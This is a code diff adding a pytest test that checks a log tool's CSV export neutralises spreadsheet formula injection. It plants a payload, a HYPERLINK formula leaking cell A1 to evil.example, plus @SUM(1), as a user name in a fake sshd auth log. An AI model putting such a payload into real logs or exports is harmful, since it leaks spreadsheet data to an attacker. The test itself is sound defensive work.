@@ -133,3 +133,25 @@ def test_entry_point_runs_as_a_program(tmp_path: Path) -> None:
     )
     assert proc.returncode == 2
     assert proc.stderr.strip() == f"error: {empty}: the file is empty"
+
+
+def test_csv_output_neutralises_spreadsheet_formulas(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """A user name `=HYPERLINK(...)` from an auth log comes out of `--format csv` as text, numbers stay numbers."""
+    log = tmp_path / "auth.log"
+    attacker = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
+    log.write_text(
+        f"Mar  1 10:00:00 host sshd[1]: Failed password for invalid user {attacker} from 203.0.113.9 port 22 ssh2\n"
+        "Mar  1 10:00:01 host sshd[2]: Failed password for invalid user @SUM(1) from 203.0.113.9 port 22 ssh2\n"
+    )
+    assert _run(["import", "syslog", str(log), "--year", "2024", "-w", str(tmp_path)]) == 0
+    capsys.readouterr()
+    sql = (
+        "SELECT user, -1 AS delta, -2.5 AS score, '+1' AS plus, chr(9) || 'x' AS tab, chr(13) || 'y' AS cr, "
+        "'-5' AS text_minus, 'plain' AS fine FROM auth_events ORDER BY time"
+    )
+    assert _run(["query", sql, "--format", "csv", "-w", str(tmp_path)]) == 0
+    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
+    assert rows[1] == ["'" + attacker, "-1", "-2.5", "'+1", "'\tx", "'\ry", "'-5", "plain"]
+    assert rows[2][0] == "'@SUM(1)"
